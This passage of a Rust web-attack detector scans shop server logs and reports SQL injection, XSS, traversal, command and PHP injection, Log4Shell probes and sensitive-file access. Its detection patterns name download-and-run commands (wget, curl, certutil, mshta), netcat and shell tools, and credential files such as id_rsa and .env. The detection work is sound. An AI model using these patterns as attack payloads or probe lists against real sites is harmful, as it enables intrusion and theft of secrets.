//! `web-attack`: exploitation attempts visible in request targets, and sensitive files.
//!
//! Rules: `web.sqli`, `web.xss`, `web.traversal`, `web.cmdi`, `web.php_injection`,
//! `web.jndi`, `web.sensitive_file`, `web.installer`.
//!
//! Targets are decoded (see [`crate::decode`]) and screened with a literal prefilter before
//! the regular expressions run, so ordinary shop traffic costs one Aho-Corasick pass.
//! Findings are grouped per rule and client IP when the server answered 2xx to at least one
//! attempt (medium; a sensitive file served with a body, or a reachable installer, is high),
//! up to [`MAX_CLIENT_FINDINGS`] clients per rule and severity (most answered first); the
//! others are summed in one finding, so a botnet's probes neither bury the report nor grow
//! memory with the number of addresses.
//! Attempts that were all refused (3xx/4xx/5xx) are grouped into one low finding per rule
//! listing the IPs: context, not compromise. Known false positives: sites that answer every
//! path with 200 (soft 404) are recognised when many distinct sensitive paths return the
//! same size, and are reported at medium with that caveat.

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::Arc;

use aho_corasick::AhoCorasick;
use ecir_model::finding::MAX_IPS;
use ecir_model::{Category, Event, Finding, Severity};
use regex::bytes::RegexSet;

use crate::codec::{self, Cursor, Files};
use crate::decode::decode_target;
use crate::evidence::{SmallestSet, Span, TopEvidence};
use crate::soft404::{path_hash, SizePaths};
use crate::spill_map::{SpillMap, Spillable};
use crate::{downcast, DetectConfig, DetectorState, FinishContext, Origin};

pub const RULES: &[&str] = &[
    "web.sqli",
    "web.xss",
    "web.traversal",
    "web.cmdi",
    "web.php_injection",
    "web.jndi",
    "web.sensitive_file",
    "web.installer",
];

#[derive(Copy, Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[repr(u8)]
pub enum Class {
    Sqli,
    Xss,
    Traversal,
    Cmdi,
    Php,
    Jndi,
    Sensitive,
    Installer,
}

impl Class {
    /// Every class, in `repr` order.
    const ALL: [Class; 8] = [
        Class::Sqli,
        Class::Xss,
        Class::Traversal,
        Class::Cmdi,
        Class::Php,
        Class::Jndi,
        Class::Sensitive,
        Class::Installer,
    ];

    fn rule(self) -> &'static str {
        RULES[self as usize]
    }
    fn label(self) -> &'static str {
        match self {
            Class::Sqli => "SQL injection",
            Class::Xss => "cross-site scripting",
            Class::Traversal => "path traversal / local file inclusion",
            Class::Cmdi => "command injection",
            Class::Php => "PHP code injection",
            Class::Jndi => "JNDI (Log4Shell) injection",
            Class::Sensitive => "sensitive file access",
            Class::Installer => "installer access",
        }
    }
}

/// Literal screens on the decoded, lower-cased target: no hit, no regex.
const SCREEN: &[&str] = &[
    "select",
    "union",
    "sleep",
    "benchmark(",
    "waitfor",
    "'",
    "\"",
    "<",
    ">",
    "javascript:",
    "onerror",
    "onload",
    "../",
    "..\\",
    "/etc/",
    "passwd",
    "php://",
    "file://",
    "data:",
    ";",
    "|",
    "`",
    "$(",
    "${",
    "/bin/",
    "wget",
    "curl",
    "base64",
    "eval(",
    "system(",
    "exec",
    "information_schema",
    "0x",
    "--",
    "/*",
    "\0",
    "cmd",
    "win.ini",
    "() {",
    "<?",
    "phpinfo",
    "allow_url",
    "auto_prepend",
    "concat(",
    "char(",
    "extractvalue",
    "updatexml",
    "load_file",
    "outfile",
    "jndi",
    "alert(",
    "document.",
    "fromcharcode",
    "/proc/",
    "boot.ini",
    "powershell",
    "assert(",
    "passthru",
    "shell_exec",
    "popen",
    "proc_open",
    "$_",
    "eval-stdin",
    "invokefunction",
    "md5(",
    "gettemplatefilter",
    "addafterfiltercallback",
    "getruntime",
    "memberaccess",
    "ognl",
    "xwork",
    "classloader",
    "certutil",
    "mshta",
    "invoke-",
    "&&",
];

/// Attack patterns per class, applied to the decoded target.
const PATTERNS: &[(Class, &str)] = &[
    (
        Class::Sqli,
        r"union(\s|/\*.*?\*/|\+)+(all(\s|/\*.*?\*/)+)?(distinct\s+)?select",
    ),
    (
        Class::Sqli,
        r"\bselect\b.{1,100}\bfrom\b.{1,100}\b(where|information_schema|dual|mysql\.|pg_|sys)",
    ),
    (
        Class::Sqli,
        r"'\s*(or|and|\|\||&&)\s*('|\d|\(|true|false|not\b)",
    ),
    (Class::Sqli, r#"["')]\s*(or|and)\s+\d+\s*[=<>]\s*\d+"#),
    (Class::Sqli, r"\b(or|and)\s+\d+\s*=\s*\d+\s*(--|#|/\*)"),
    // Time-based blind: `sleep(5)`, `sleep('10')`, `sleep ("10")`, `sleep (mod(10,5))`,
    // `sleep(-3*-2)`, and `pg_sleep` whatever follows it; not a product search such as
    // `sleep (8 hours)`.
    (
        Class::Sqli,
        r#"\b(pg_)?sleep\s*\(\s*(-?\s*\d+(\.\d+)?\s*([)*+/%^-]|(div|mod|xor)\b)|['"]\s*-?\s*\d|[a-z_]+\s*\()|\bselect\s+sleep\s*\(|\bpg_sleep\b|benchmark\s*\(\s*\d+|waitfor\s+delay\s+'"#,
    ),
    (
        Class::Sqli,
        r"information_schema|\b(extractvalue|updatexml|load_file)\s*\(|into\s+(out|dump)file|@@version|\bxp_cmdshell",
    ),
    (
        Class::Sqli,
        r"concat(_ws)?\s*\(.{0,40}0x[0-9a-f]+|char\s*\(\s*\d+\s*(,\s*\d+\s*){2,}\)|'\s*;\s*(drop|insert|update|delete|shutdown)\b|'\s*(--|#)",
    ),
    // Stacked queries without a quote (`1;INSERT /*x*/INTO t(id) VALUES (3)`): a statement
    // keyword after `;` only with its own grammar (`insert … into`, `update … set`, `delete
    // from`), so `;` in ordinary query strings (`a=1;b=2`, `;update`) stays clean.
    (
        Class::Sqli,
        r#";\s*(/\*[^*]*\*/\s*)*(insert(\s|/\*[^*]*\*/)+into\b|update\s+[\w.`"\[\]]+\s+set\b|delete\s+from\b|drop\s+(table|database|schema)\b|truncate\s+table\b|declare\s+@|exec(ute)?\s+(xp_|sp_|master\.))"#,
    ),
    (
        Class::Xss,
        r"<\s*/?\s*(script|iframe|svg|object|embed|applet|body|img|video|audio|details|marquee|base|form|math|style|link|meta)\b[^>]*",
    ),
    (
        Class::Xss,
        r#"\bon(error|load|mouseover|mouseenter|focus|blur|click|toggle|animationstart|pageshow|begin|start)\s*="#,
    ),
    (
        Class::Xss,
        r"javascript\s*:|vbscript\s*:|document\.(cookie|domain|location)|string\.fromcharcode|\balert\s*\(|\bprompt\s*\(|\bconfirm\s*\(|data:text/html",
    ),
    // `..;/` is a traversal too: Tomcat drops the `;` path parameter after normalising, so
    // F5 BIG-IP's `/tmui/login.jsp/..;/tmui/…` (CVE-2020-5902) escapes the login check.
    (
        Class::Traversal,
        r"(\.\./|\.\.\\|\.\.;/){1,}|/etc/(passwd|shadow|hosts|group)|/proc/self/(environ|cmdline|fd)|win\.ini|boot\.ini|\x00|php://filter|file:///",
    ),
    // A command after a shell separator. Not followed by `=`: `&id=3` and `;id=3` (matrix
    // parameters) are query parameters, not commands.
    (
        Class::Cmdi,
        r"[;|`&]\s*(id|uname|whoami|cat|ls|wget|curl|bash|sh|nc|ncat|netcat|python[0-9.]*|perl|php|chmod|rm|echo|busybox|ping|nslookup|sleep)([^a-z0-9_=]|$)",
    ),
    // `ps` and `who` are ordinary words: only right after a separator (`;`, `|`, `&&`, a
    // backtick, `$(`, a newline) and before the end, a space or another separator.
    (
        Class::Cmdi,
        r"([;|`\n]|&&|\$\()\s*(ps|who|id)(\s|[;|&`)]|$)",
    ),
    // Windows download-and-run (`certutil -urlcache`, `mshta http…`, PowerShell's
    // `Invoke-WebRequest` and its aliases after a separator), and `$(…)` around any command.
    (
        Class::Cmdi,
        r"\bcertutil(\.exe)?\b.{0,40}[-/](urlcache|decode|verifyctl)\b|\bmshta(\.exe)?\s+(https?:|vbscript:|javascript:)|\binvoke-(webrequest|expression|restmethod)\b|([;|`\n]|&&|\$\()\s*(iwr|iex|irm)(\s|\(|$)|\$\(\s*[a-z_./]",
    ),
    (
        Class::Cmdi,
        r"\$\(\s*(id|uname|whoami|cat|wget|curl|sleep|echo|nslookup)\b|`\s*(id|uname|whoami|cat|wget|curl|sleep|echo)\b|/bin/(ba|z|da)?sh\b|\bcmd(\.exe)?\s*/c\b|\bpowershell(\.exe)?\b|\(\)\s*\{\s*:?\s*;\s*\}|\b(wget|curl)\s+(-\w+\s+)*https?://",
    ),
    // Java expression-language injection that runs commands: Struts2 / Confluence OGNL,
    // Spring4Shell's class loader.
    (
        Class::Cmdi,
        r"@java\.lang\.(runtime|processbuilder)@|\.getruntime\(\)\.exec|#_memberaccess|@ognl\.|ognl\.ognlcontext|xwork\.methodaccessor|com\.opensymphony\.xwork2|class\.module\.classloader",
    ),
    (
        Class::Php,
        r"<\?php|<\?=|php://input|data://text/plain;base64|allow_url_include|auto_prepend_file|\b(base64_decode|system|passthru|shell_exec|proc_open|popen|phpinfo|assert|call_user_func(_array)?|create_function|file_put_contents|fwrite|eval)\s*\(",
    ),
    (
        Class::Php,
        r"\$_(get|post|request|cookie|server)\s*\[|die\s*\(\s*@?md5\s*\(|/vendor/phpunit/.*eval-stdin\.php|invokefunction&function=|gettemplatefilter|addafterfiltercallback|\{\{\s*(var\s+)?this\.",
    ),
    (
        Class::Jndi,
        r"\$\{\s*(jndi|\$\{|lower:|upper:|env:|sys:|::-j|date:)",
    ),
];

/// Sensitive files: `(pattern, description)`, on the decoded lower-case path.
const SENSITIVE: &str = r"(?x)
    /\.env(\.[a-z0-9_.-]+)?$ | /\.git(/|$) | /\.svn(/|$) | /\.hg(/|$) | /\.htpasswd$ | /\.htaccess$
  | /\.ds_store$ | /\.aws/ | /\.ssh/ | /id_[rd]sa(\.pub)?$ | /\.bash_history$ | /\.npmrc$ | /\.docker
  | /wp-config\.php(\.|~|\#|_)[a-z0-9~\#]* | \.(php|inc|conf|config|ini|yml|yaml|xml|json)\.(bak|old|orig|save|swp|swo|tmp|dist|backup|1|2|txt)$
  | \.php~$ | /(backup|backups|bak|db|dump|database|site|www|html|public_html|sql|data|shop|eccube|magento|wordpress)[a-z0-9_-]*\.(sql|zip|tar|tgz|gz|bz2|7z|rar)(\.gz)?$
  | \.sql(\.gz|\.zip|\.bz2|\.tar)?$
  | /data/logs/ | /data/config/config\.php | /data/smarty/templates/ | /data/cache/
  | /app/etc/env\.php$ | /app/etc/local\.xml$ | /app/config/eccube/ | /var/log/ | /var/backups?/
  | /composer\.(json|lock)$ | /web\.config$ | /phpinfo\.php$ | /info\.php$ | /server-status | /server-info
  | /config\.php\.bak$ | /configuration\.php\.(bak|old)$ | /\.well-known/security\.txt\.bak$
";

/// Installer routes that should not answer once a shop is installed.
const INSTALLER: &str = r"(?x)
    ^/install(/|\.php$|$) | ^/html/install\.php$ | ^/eccube[^/]*/install | ^/setup(/|$)
  | /wp-admin/(install|setup-config)\.php$ | ^/install/index\.php
";

/// Screens for path-only rules.
const PATH_SCREEN: &[&str] = &[
    "/.",
    ".bak",
    ".old",
    ".orig",
    ".save",
    ".sw",
    ".sql",
    ".zip",
    ".tar",
    ".tgz",
    ".gz",
    ".7z",
    ".rar",
    "~",
    "/data/",
    "/app/",
    "/var/",
    "composer.",
    "web.config",
    "install",
    "setup",
    "phpinfo",
    "info.php",
    "server-",
    "config",
    "id_rsa",
    "id_dsa",
    ".env",
    ".dist",
    ".1",
    ".2",
    ".txt",
    ".bz2",
    "#",
];

struct Matchers {
    /// Multi-byte screen literals (Aho-Corasick keeps its fast prefilter for these).
    screen: AhoCorasick,
    /// Single-byte screen literals, as a byte table.
    screen_bytes: [bool; 256],
    patterns: RegexSet,
    path_screen: AhoCorasick,
    sensitive: regex::bytes::Regex,
    installer: regex::bytes::Regex,
}

fn matchers() -> &'static Matchers {
    static M: std::sync::OnceLock<Matchers> = std::sync::OnceLock::new();
    M.get_or_init(|| Matchers {
        screen: AhoCorasick::new(SCREEN.iter().filter(|p| p.len() > 1)).expect("screen patterns"),
        screen_bytes: {
            let mut t = [false; 256];
            for p in SCREEN.iter().filter(|p| p.len() == 1) {
                t[p.as_bytes()[0] as usize] = true;
            }
            t
        },
        patterns: RegexSet::new(PATTERNS.iter().map(|(_, p)| format!("(?s-u){p}")))
            .expect("attack patterns"),
        path_screen: AhoCorasick::new(PATH_SCREEN).expect("path screen"),
        sensitive: regex::bytes::Regex::new(&format!("(?-u){SENSITIVE}")).expect("sensitive"),
        installer: regex::bytes::Regex::new(&format!("(?-u){INSTALLER}")).expect("installer"),
    })
}

/// Classifies one request. Exposed for tests and other detectors.
/// `headers` are the logged request headers (User-Agent, Referer) checked for JNDI and
/// Shellshock payloads.
pub fn classify(target: &str, headers: &[Option<&str>], scratch: &mut Vec<u8>) -> Vec<Class> {
    let mut out = Vec::new();
    classify_target(target, scratch, &mut out);
    classify_headers(headers, &mut out);
    out
}

/// The classes the target alone shows (appended to `out`).
fn classify_target(target: &str, scratch: &mut Vec<u8>, out: &mut Vec<Class>) {
    let m = matchers();
    decode_target(target, scratch);
    let decoded: &[u8] = scratch;
    if decoded.iter().any(|b| m.screen_bytes[*b as usize]) || m.screen.is_match(decoded) {
        let hits = m.patterns.matches(decoded);
        for i in hits.iter() {
            let c = PATTERNS[i].0;
            if !out.contains(&c) {
                out.push(c);
            }
        }
    }
    let path_end = memchr::memchr(b'?', decoded).unwrap_or(decoded.len());
    let path = &decoded[..path_end];
    if m.path_screen.is_match(path) {
        if m.installer.is_match(path) {
            out.push(Class::Installer);
        } else if m.sensitive.is_match(path) {
            out.push(Class::Sensitive);
        }
    }
}

/// JNDI and Shellshock payloads in logged headers (appended to `out`).
fn classify_headers(headers: &[Option<&str>], out: &mut Vec<Class>) {
    for ua in headers.iter().flatten() {
        // Both payloads hold `{` (`${`, `() {`), which almost no header does: one byte
        // search proves most headers clean.
        if memchr::memchr(b'{', ua.as_bytes()).is_none() {
            continue;
        }
        if ua.contains("${") && !out.contains(&Class::Jndi) {
            let lower = ua.to_ascii_lowercase();
            if matchers()
                .patterns
                .matches(lower.as_bytes())
                .iter()
                .any(|i| PATTERNS[i].0 == Class::Jndi)
            {
                out.push(Class::Jndi);
            }
        }
        if ua.contains("() {") && !out.contains(&Class::Cmdi) {
            out.push(Class::Cmdi); // Shellshock in the User-Agent
        }
    }
}

/// Bytes a target may hold and still be proved clean by [`Prescreen`]: ASCII letters, digits
/// and `/._-`. Everything else (`%`, `\\` and `+`, which decoding would change; `?` and the
/// query's `=&`; the single-byte screens `'"<>;|` and the NUL byte; `$(){}*:~#`, ...) sends
/// the target the long way.
fn prescreen_allowed(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-')
}

/// Ordinary request paths, only to choose which four bytes of each long screen literal
/// [`Prescreen`] looks for (the rarest here): what it proves does not depend on this text.
const ORDINARY_URLS: &str = "\
    /html/template/default/assets/css/style.css /html/template/default/assets/js/function.js \
    /html/upload/save_image/ /html/user_data/assets/img/common/favicon.ico /html/bundle/front.bundle.js \
    /products/detail/ /products/list /products/add_cart /mypage/login /mypage/history /shopping/confirm \
    /shopping/complete /wp-content/uploads/ /wp-content/themes/ /wp-includes/js/jquery/jquery.min.js \
    /static/version/frontend/ /media/catalog/product/cache/ /pub/static/ /collections/all \
    /cdn/shop/files/ /images/ /download/ /account/login /customer/account /checkout/cart /search \
    /category/ /blog/news /feed /api/ upload uploads download image images thumbnail function \
    functions application information products product collection collections category \
    categories detail details history register compare company contact service services shelf";

/// Slots (log2) of the 4-gram table of [`Prescreen`] (a byte each: 128 KiB).
const GRAM4_BITS: u32 = 17;

/// An exact, cheap proof that a target shows nothing: most requests are static assets and
/// pages (`/html/upload/save_image/0125218079_d2c055787d9d.jpg`) that hold no screen literal,
/// and proving that from the target's own bytes costs less than looking the target up in
/// [`TargetCache`] (whose slots and keys are cache misses).
///
/// [`Prescreen::clean`] says `true` only when the target has no byte outside
/// [`prescreen_allowed`] and its lower-cased bytes hold no literal of [`SCREEN`] or
/// [`PATH_SCREEN`]. Such a target is decoded to itself lower-cased (nothing to decode), its
/// screen finds nothing (so no pattern runs) and neither does the path screen on the part
/// before `?` (a substring): [`classify_target`] adds no class. `false` proves nothing.
///
/// Literals with a byte outside the allowed set cannot occur. The others are looked for in
/// one pass with a rolling window of the last four lower-cased bytes: two-byte literals and
/// the last two bytes of three-byte ones in an exact table of byte pairs, four consecutive
/// bytes of longer ones in a hashed table. Any part of a literal occurs where the literal
/// does, so a target holding a literal always trips a table; a false alarm only sends a
/// target the long way.
/// Everything is built from the screen lists, so a literal added there is covered.
struct Prescreen {
    /// The lower-cased byte for allowed bytes, 0 for the others (0 is not allowed).
    lower: [u8; 256],
    /// Byte pairs (`first << 8 | second`) that may be part of a literal, and every pair
    /// ending in 0 (a disallowed byte): 1 for those, 0 for the others. A byte per pair (64 KiB,
    /// of which ordinary paths touch a few lines) costs fewer instructions per byte than a bit.
    pairs: Box<[u8; 1 << 16]>,
    /// Hashed 4-grams (`b0 << 24 | b1 << 16 | b2 << 8 | b3`) that may be part of a literal:
    /// 1 for those, 0 for the others. A byte per slot, like `pairs`: read and or-ed in two
    /// instructions, where a bit costs a split of the slot and a shift (three more per target
    /// byte); the slots ordinary paths touch stay few.
    quads: Box<[u8; 1 << GRAM4_BITS]>,
}

impl Prescreen {
    fn new() -> Self {
        let mut lower = [0u8; 256];
        for b in 0..=255u8 {
            if prescreen_allowed(b) {
                lower[b as usize] = b.to_ascii_lowercase();
            }
        }
        let mut pairs: Box<[u8; 1 << 16]> = vec![0u8; 1 << 16]
            .into_boxed_slice()
            .try_into()
            .expect("64 KiB");
        let mut quads: Box<[u8; 1 << GRAM4_BITS]> = vec![0u8; 1 << GRAM4_BITS]
            .into_boxed_slice()
            .try_into()
            .expect("128 KiB");
        for lit in SCREEN.iter().chain(PATH_SCREEN) {
            let l = lit.to_ascii_lowercase().into_bytes();
            if !l.iter().all(|&b| prescreen_allowed(b)) {
                continue; // holds a byte a clean target cannot hold
            }
            match l.len() {
                0 => unreachable!("empty screen literal"),
                1 => lower[l[0] as usize] = 0,
                2 | 3 => {
                    let n = l.len();
                    pairs[usize::from(l[n - 2]) << 8 | usize::from(l[n - 1])] = 1;
                }
                _ => {
                    // Any four bytes of a literal occur where it does: take the ones least
                    // seen in ordinary URLs, so that `upload` does not trip on `load_file`.
                    let g = l
                        .windows(4)
                        .min_by_key(|g| {
                            ORDINARY_URLS
                                .matches(std::str::from_utf8(g).unwrap_or(""))
                                .count()
                        })
                        .expect("four bytes");
                    quads[Self::quad_slot(u32::from_be_bytes([g[0], g[1], g[2], g[3]]))] = 1;
                }
            }
        }
        // A disallowed byte reads as 0: every pair ending in it trips the pair table.
        for first in 0..256 {
            pairs[first << 8] = 1;
        }
        for b in [b'%', b'\\', b'+'] {
            assert_eq!(
                lower[b as usize], 0,
                "a byte decoding changes must not be allowed"
            );
        }
        Prescreen {
            lower,
            pairs,
            quads,
        }
    }

    #[inline]
    fn quad_slot(w: u32) -> usize {
        (w.wrapping_mul(0x9E37_79B1) >> (32 - GRAM4_BITS)) as usize
    }

    /// Whether `target` certainly gets no class from [`classify_target`] (see the type).
    #[inline]
    fn clean(&self, target: &[u8]) -> bool {
        let mut w = 0u32;
        let mut bad = 0u8;
        for &b in target {
            let c = self.lower[b as usize];
            w = w << 8 | u32::from(c);
            bad |= self.pairs[(w & 0xffff) as usize] | self.quads[Self::quad_slot(w)];
        }
        bad == 0
    }
}

fn prescreen() -> &'static Prescreen {
    static P: std::sync::OnceLock<Prescreen> = std::sync::OnceLock::new();
    P.get_or_init(Prescreen::new)
}

/// Targets remembered by [`TargetCache`] (a power of two).
const CACHE_SLOTS: usize = 16384;
/// Longest target the cache remembers; longer ones are classified every time.
const CACHE_MAX_TARGET: usize = 160;

/// A direct-mapped memo of target classifications. Shops serve the same few thousand
/// asset and page targets over and over; a hit costs a hash and a comparison instead of
/// decoding and screening. It is a pure memo: results never depend on what it holds.
struct TargetCache {
    slots: Vec<Option<(Box<str>, Vec<Class>)>>,
}

impl TargetCache {
    fn new() -> Self {
        TargetCache { slots: Vec::new() }
    }

    /// The classes of `target` alone, classified once per distinct cached target.
    fn classify(&mut self, target: &str, scratch: &mut Vec<u8>, out: &mut Vec<Class>) {
        if prescreen().clean(target.as_bytes()) {
            return; // proved clean: nothing to look up
        }
        if target.len() > CACHE_MAX_TARGET {
            classify_target(target, scratch, out);
            return;
        }
        if self.slots.is_empty() {
            self.slots.resize_with(CACHE_SLOTS, || None);
        }
        let mut h = rustc_hash::FxHasher::default();
        std::hash::Hasher::write(&mut h, target.as_bytes());
        // Multiplicative mixing, then the top bits: an even spread over the slots.
        let mixed = std::hash::Hasher::finish(&h).wrapping_mul(0x9E37_79B9_7F4A_7C15);
        let slot = (mixed >> (64 - CACHE_SLOTS.trailing_zeros())) as usize;
        if let Some((t, classes)) = &self.slots[slot] {
            if **t == *target {
                out.extend_from_slice(classes);
                return;
            }
        }
        classify_target(target, scratch, out);
        self.slots[slot] = Some((target.into(), out.clone()));
    }
}

#[derive(Default)]
struct Group {
    count: u64,
    ok: u64,
    /// Largest 2xx body, and distinct 2xx sizes (for the soft-404 check).
    max_ok_bytes: u64,
    span: Span,
    paths: SmallestSet<String>,
    evidence: TopEvidence,
}

impl Group {
    fn merge(&mut self, o: Group) {
        self.count += o.count;
        self.ok += o.ok;
        self.max_ok_bytes = self.max_ok_bytes.max(o.max_ok_bytes);
        self.span.merge(o.span);
        self.paths.merge(o.paths);
        self.evidence.merge(o.evidence);
    }
}

/// Groups (one per class and client) one detector state holds in memory before spilling
/// them: a botnet with a payload from every address must not grow the heap without bound.
/// About 0.6 KiB each with their lines, so about 1.2 MiB per state.
pub const GROUP_CAP: usize = 2048;

type GroupKey = (Class, Option<IpAddr>);

/// Response sizes of answered sensitive paths kept for the soft-404 check.
pub const MAX_OK_SIZES: usize = 65_536;

/// State of the web-attack detector.
pub struct WebAttack {
    config: Arc<DetectConfig>,
    /// Groups per (class, client), up to [`GROUP_CAP`] in memory.
    groups: SpillMap<Group>,
    /// Sizes of sensitive paths answered 2xx with a body, with up to three of the paths that
    /// had each (the smallest hashes), to spot soft-404 sites: at most [`MAX_OK_SIZES`], the smallest.
    ok_sensitive_sizes: SizePaths<3>,
    scratch: Vec<u8>,
    cache: TargetCache,
    classes: Vec<Class>,
}

impl WebAttack {
    pub fn new(config: Arc<DetectConfig>) -> Self {
        WebAttack {
            config,
            groups: SpillMap::new(GROUP_CAP, "web"),
            ok_sensitive_sizes: SizePaths::new(MAX_OK_SIZES),
            scratch: Vec::with_capacity(256),
            cache: TargetCache::new(),
            classes: Vec::new(),
        }
    }
}

impl DetectorState for WebAttack {
    fn observe(&mut self, ev: &Event<'_>, origin: &Origin<'_>) {
        if ev.source == Some(ecir_model::SourceKind::Waf) {
            // WAF records are judged by the waf detector, with what the WAF did.
            return;
        }
        let Some(target) = ev.target.as_deref() else {
            return;
        };
        let mut classes = std::mem::take(&mut self.classes);
        classes.clear();
        self.cache.classify(target, &mut self.scratch, &mut classes);
        classify_headers(
            &[ev.user_agent.as_deref(), ev.referer.as_deref()],
            &mut classes,
        );
        if classes.is_empty() {
            self.classes = classes;
            return;
        }
        let ok = ev.is_success();
        let bytes = ev.bytes.unwrap_or(0);
        for &class in &classes {
            let exposure_min_bytes = self.config.exposure_min_bytes;
            let g = self.groups.get_or_default((class, ev.client_ip));
            g.count += 1;
            g.span.add(ev.ts);
            let path = ev.path();
            g.paths.insert(truncate(path, 200));
            let weight = match ev.status {
                Some(200..=299) => 100 + u32::from(bytes > exposure_min_bytes) * 50,
                Some(300..=399) => 40,
                Some(500..=599) => 30,
                _ => 10,
            };
            g.evidence.offer(origin, ev.ts, weight);
            if ok {
                g.ok += 1;
                g.max_ok_bytes = g.max_ok_bytes.max(bytes);
                if class == Class::Sensitive && bytes > exposure_min_bytes {
                    self.ok_sensitive_sizes
                        .add(bytes, path_hash(&truncate(path, 200)));
                }
            }
        }
        self.classes = classes;
    }

    fn park(&mut self) {
        self.groups.park();
        self.cache = TargetCache::new();
    }

    fn merge(&mut self, other: Box<dyn DetectorState>) {
        let other: WebAttack = downcast(other);
        self.groups.merge(other.groups);
        self.ok_sensitive_sizes.merge(other.ok_sensitive_sizes);
    }

    fn finish(self: Box<Self>, ctx: &FinishContext) -> Vec<Finding> {
        let judge = Judge {
            // Sizes shared by 3+ distinct sensitive paths look like a catch-all page.
            soft_404_sizes: self.ok_sensitive_sizes.shared_sizes(),
            sizes_bound: self.ok_sensitive_sizes.bound,
            min_bytes: self.config.exposure_min_bytes,
        };
        let mut answered: BTreeMap<(Class, Severity), Listed> = BTreeMap::new();
        let mut refused: BTreeMap<Class, Refused> = BTreeMap::new();
        // In key order, spilled groups combined with the rest. Only the listed groups and one
        // fold per rule and severity stay in memory, however many clients there were.
        let groups = self
            .groups
            .into_sorted(ctx, "The web-attack groups per client");
        for ((class, ip), g) in groups {
            if g.ok == 0 {
                refused.entry(class).or_default().add(ip, g);
                continue;
            }
            let severity = judge.severity(class, &g);
            answered
                .entry((class, severity))
                .or_insert_with(|| Listed::new(MAX_CLIENT_FINDINGS))
                .offer(ip, g);
        }
        let mut listed = Vec::new();
        let mut folds = Vec::new();
        for ((class, severity), l) in answered {
            let (kept, fold) = l.into_parts();
            listed.extend(kept.into_iter().map(|(ip, g)| (class, ip, g)));
            if let Some(fold) = fold {
                folds.push(fold.finding(class, severity, MAX_CLIENT_FINDINGS));
            }
        }
        // The order of the groups (class, then client), as before any fold.
        listed.sort_by_key(|(class, ip, _)| (*class, *ip));
        let mut out: Vec<Finding> = listed
            .into_iter()
            .map(|(class, ip, g)| judge.client_finding(class, ip, g))
            .collect();
        out.extend(folds);
        out.extend(refused.into_iter().map(|(class, r)| r.finding(class)));
        out
    }

    fn into_any(self: Box<Self>) -> Box<dyn std::any::Any> {
        self
    }
}

/// Answered per-client findings listed one by one for each rule and severity, at most: the
/// clients with the most answered requests. A botnet probing from hundreds of thousands of
/// addresses a shop that answers every search with 200 would otherwise make as many
/// findings (and hold them all in memory); the others are summed in one finding.
pub const MAX_CLIENT_FINDINGS: usize = 500;

/// How serious an answered group is, and why: the soft-404 check and body sizes.
struct Judge {
    soft_404_sizes: std::collections::BTreeSet<u64>,
    sizes_bound: Option<u64>,
    min_bytes: u64,
}

impl Judge {
    /// The severity of an answered group: a sensitive file or installer served with a body
    /// is high, unless the size looks like a catch-all page; with no body, low.
    fn severity(&self, class: Class, g: &Group) -> Severity {
        if !matches!(class, Class::Sensitive | Class::Installer) {
            Severity::Medium
        } else if g.max_ok_bytes <= self.min_bytes {
            Severity::Low
        } else if self.soft_404_sizes.contains(&g.max_ok_bytes) {
            Severity::Medium
        } else {
            Severity::High
        }
    }

    /// Why a sensitive group got its severity, for its finding's summary (empty otherwise).
    fn note(&self, class: Class, g: &Group) -> String {
        if !matches!(class, Class::Sensitive | Class::Installer) {
            String::new()
        } else if g.max_ok_bytes <= self.min_bytes {
            format!(
                " The 2xx bodies were at most {} bytes, too small to be the file itself.",
                g.max_ok_bytes
            )
        } else if self.soft_404_sizes.contains(&g.max_ok_bytes) {
            " Several different sensitive paths returned exactly the same size, which looks like a catch-all page (soft 404): check one by hand.".into()
        } else if self.sizes_bound.is_some_and(|b| g.max_ok_bytes >= b) {
            format!(" Sensitive paths were answered with more than {MAX_OK_SIZES} different sizes, too many to tell a catch-all page (soft 404) apart: check one by hand.")
        } else {
            String::new()
        }
    }

    /// The finding of one client's answered attempts of one class.
    fn client_finding(&self, class: Class, ip: Option<IpAddr>, g: Group) -> Finding {
        let (severity, note) = (self.severity(class, &g), self.note(class, &g));
        let who = ip.map_or("an unknown client".to_string(), |i| i.to_string());
        let mut f = Finding::new(class.rule(), Category::WebAttack, severity);
        f.title = match class {
            Class::Sensitive if severity == Severity::High => {
                format!("Sensitive file served to {who}")
            }
            Class::Installer if severity == Severity::High => {
                format!("Installer answered {who}")
            }
            _ => format!(
                "{} attempts from {who} answered 2xx",
                capitalize(class.label())
            ),
        };
        f.summary = format!(
            "{} {} request(s) from {who}, {} answered 2xx (largest body {} bytes).{note} {}",
            g.count,
            class.label(),
            g.ok,
            g.max_ok_bytes,
            advice(class, severity)
        );
        f.first_seen = g.span.first;
        f.last_seen = g.span.last;
        f.ips = ip.map(|i| vec![i.to_string()]).unwrap_or_default();
        f.paths = g.paths.items().to_vec();
        f.count = g.count;
        f.evidence = g.evidence.into_vec();
        f
    }
}

/// Where a group ranks among the answered groups of its rule and severity: most answered
/// requests first, then most requests, then largest body, then address (a total order, so
/// the list kept does not depend on the order groups arrive in).
#[derive(PartialEq, Eq, PartialOrd, Ord)]
struct Rank {
    ok: std::cmp::Reverse<u64>,
    count: std::cmp::Reverse<u64>,
    max_ok_bytes: std::cmp::Reverse<u64>,
    ip: Option<IpAddr>,
}

/// A group with its rank; ordered by rank alone (a max-heap's top is the lowest ranked).
struct RankedGroup(Rank, Group);

impl PartialEq for RankedGroup {
    fn eq(&self, o: &Self) -> bool {
        self.0 == o.0
    }
}
impl Eq for RankedGroup {}
impl PartialOrd for RankedGroup {
    fn partial_cmp(&self, o: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(o))
    }
}
impl Ord for RankedGroup {
    fn cmp(&self, o: &Self) -> std::cmp::Ordering {
        self.0.cmp(&o.0)
    }
}

/// The answered groups of one rule and severity: the best ranked kept whole, the rest
/// summed in a [`Fold`].
struct Listed {
    cap: usize,
    heap: std::collections::BinaryHeap<RankedGroup>,
    fold: Option<Fold>,
}

impl Listed {
    fn new(cap: usize) -> Self {
        Listed {
            cap,
            heap: std::collections::BinaryHeap::new(),
            fold: None,
        }
    }

    fn offer(&mut self, ip: Option<IpAddr>, g: Group) {
        let rank = Rank {
            ok: std::cmp::Reverse(g.ok),
            count: std::cmp::Reverse(g.count),
            max_ok_bytes: std::cmp::Reverse(g.max_ok_bytes),
            ip,
        };
        self.heap.push(RankedGroup(rank, g));
